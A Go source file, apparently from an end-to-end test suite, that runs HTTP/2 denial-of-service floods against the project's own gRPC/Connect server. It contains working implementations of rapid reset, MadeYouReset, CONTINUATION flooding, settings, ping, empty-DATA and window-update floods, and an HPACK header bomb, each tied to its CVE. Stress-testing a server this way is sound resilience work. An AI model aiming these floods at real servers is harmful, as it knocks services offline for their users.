package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/sync/errgroup"

	"github.com/spanmesh/span/e2e/internal/wire"
)

// route is what a connection does first. It decides which part of the server has the
// connection.
type route struct{ name, what, contentType string }

// routes are the first requests of a connection: none, one in gRPC, one in Connect.
var routes = []route{
	{"", "before any request", ""},
	{"-grpc", "after a gRPC request", wire.TypeGRPC},
	{"-connect", "after a request in Connect", wire.TypeConnect},
}

// flood is an attack by frames that are sent as fast as the server takes them.
type flood struct {
	name, what string
	// needsRoute is set if the frames make calls, whose content type is the route's.
	needsRoute bool
	// send sends frames of the n-th round. Its first stream is the round's own: none has been
	// used before.
	send func(c *h2, r route, first uint32) error
	// streams is how many streams a round uses.
	streams int
	// deaf is set if the attacker does not read what the server answers.
	deaf bool
}

// floods are attacks by frames of HTTP/2.
func floods() []Attack {
	var all []Attack
	for _, f := range []flood{
		{name: "rapid-reset", what: "calls that are reset at once (CVE-2023-44487)", needsRoute: true, streams: 100, send: rapidReset},
		{name: "made-you-reset", what: "calls that the server is made to reset (CVE-2025-8671)", needsRoute: true, streams: 100, send: madeYouReset},
		{name: "continuation", what: "a header that never ends, of CONTINUATION frames (CVE-2023-45288)", streams: 1, send: continuation},
		{name: "settings", what: "SETTINGS whose acknowledgments are not read (CVE-2019-9515)", send: settings, deaf: true},
		{name: "ping", what: "PINGs whose answers are not read (CVE-2019-9512)", send: pings, deaf: true},
		{name: "empty-data", what: "empty DATA frames (CVE-2019-9518)", needsRoute: true, streams: 1, send: emptyData},
		{name: "window-updates", what: "WINDOW_UPDATE and PRIORITY frames", send: windowUpdates},
		{name: "header-bomb", what: "headers that grow a thousandfold when they are decoded (HPACK)", needsRoute: true, streams: 1, send: headerBomb},
	} {
		for _, r := range routes {
			if f.needsRoute && r.contentType == "" {
				continue
			}
			all = append(all, Attack{Name: f.name + r.name, Most: 192, run: f.attack(r), What: "4 connections that send " + f.what + ", " + r.what})
		}
	}
	return all
}

// floodConnections is the number of connections of a flood.
const floodConnections = 4

// maxStream is where a connection has used its streams up.
const maxStream = 1 << 30

func (f flood) attack(r route) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.crew(ctx, floodConnections, func(ctx context.Context, i int, begun func()) error {
			c, err := a.dialH2(ctx, i)
			if err != nil {
				return err
			}
			next := uint32(1)
			if r.contentType != "" {
				if err := c.call(next, "Hello", r.contentType, wire.Framed(0, wire.ClusterRequest("flood"))); err != nil {
					return errors.Join(err, c.Close())
				}
				next += 2
			}
			begun()
			var group errgroup.Group
			group.Go(func() error {
				defer func() { _ = c.Close() }()
				for ; next < maxStream; next += uint32(2 * f.streams) {
					if err := f.send(c, r, next); err != nil {
						return err
					}
				}
				return errEnded
			})
			if !f.deaf {
				group.Go(func() error {
					defer func() { _ = c.Close() }()
					return c.read(maxStream)
				})
			}
			return group.Wait()
		})
	}
}

func rapidReset(c *h2, r route, first uint32) error {
	for stream := first; stream < first+200; stream += 2 {
		if err := c.call(stream, "Watch", r.contentType, wire.Framed(0, wire.ClusterRequest("flood"))); err != nil {
			return err
		}
		if err := c.write(func(f *http2.Framer) error { return f.WriteRSTStream(stream, http2.ErrCodeCancel) }); err != nil {
			return err
		}
	}
	return nil
}

func madeYouReset(c *h2, r route, first uint32) error {
	for stream := first; stream < first+200; stream += 2 {
		if err := c.call(stream, "Watch", r.contentType, wire.Framed(0, wire.ClusterRequest("flood"))); err != nil {
			return err
		}
		// An increment of 0 is an error of the stream, RFC 9113, section 6.9.
		if err := c.write(func(f *http2.Framer) error { return f.WriteWindowUpdate(stream, 0) }); err != nil {
			return err
		}
	}
	return nil
}

// fragment is a large part of a header: literal fields without indexing, RFC 7541, section
// 6.2.2.
var fragment = []byte(strings.Repeat("\x00\x01a\x64"+strings.Repeat("b", 100), 150))

func continuation(c *h2, r route, first uint32) error {
	path := r.contentType
	if path == "" {
		path = wire.TypeGRPC
	}
	if err := c.write(func(f *http2.Framer) error {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: first, BlockFragment: c.block(wire.Service+"Watch", path)})
	}); err != nil {
		return err
	}
	for {
		if err := c.write(func(f *http2.Framer) error { return f.WriteContinuation(first, false, fragment) }); err != nil {
			return err
		}
	}
}

// many returns a thousand copies of what is written to a framer.
func many(write func(f *http2.Framer) error) []byte {
	var out bytes.Buffer
	f := http2.NewFramer(&out, nil)
	f.AllowIllegalWrites = true
	for range 1000 {
		_ = write(f) // a bytes.Buffer takes everything
	}
	return out.Bytes()
}

var (
	manySettings = many(func(f *http2.Framer) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})
	manyPings     = many(func(f *http2.Framer) error { return f.WritePing(false, [8]byte{}) })
	manyEmptyData = many(func(f *http2.Framer) error { return f.WriteData(0, false, nil) })
	manyUpdates   = many(func(f *http2.Framer) error {
		return errors.Join(f.WriteWindowUpdate(0, 1), f.WritePriority(1<<20+1, http2.PriorityParam{Weight: 1}))
	})
)

func settings(c *h2, _ route, _ uint32) error      { return c.bytes(manySettings) }
func pings(c *h2, _ route, _ uint32) error         { return c.bytes(manyPings) }
func windowUpdates(c *h2, _ route, _ uint32) error { return c.bytes(manyUpdates) }

// headLength is the length of a frame's header, in bytes.
const headLength = 9

func emptyData(c *h2, r route, first uint32) error {
	if err := c.begin(first, "AffiliateUpdate", r.contentType); err != nil {
		return err
	}
	flood := bytes.Clone(manyEmptyData)
	for i := 0; i < len(flood); i += headLength {
		binary.BigEndian.PutUint32(flood[i+5:], first)
	}
	for {
		if err := c.bytes(flood); err != nil {
			return err
		}
	}
}

// headerBomb puts a field of 4,000 bytes into the table of the connection, and then sends a
// header that names it 10,000 times, a byte each.
func headerBomb(c *h2, r route, first uint32) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	block := bytes.Clone(c.block(wire.Service+"Hello", r.contentType, hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 4000)}))
	// The newest field of the table has the index 62, RFC 7541, section 6.1.
	block = append(block, bytes.Repeat([]byte{0x80 | 62}, 10_000)...)
	return c.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: first, BlockFragment: block, EndHeaders: true, EndStream: true})
}

// write writes a frame.
func (c *h2) write(frame func(f *http2.Framer) error) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	return frame(c.frames)
}

// bytes writes frames that are encoded already.
func (c *h2) bytes(b []byte) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	_, err := c.Write(b)
	return err
}
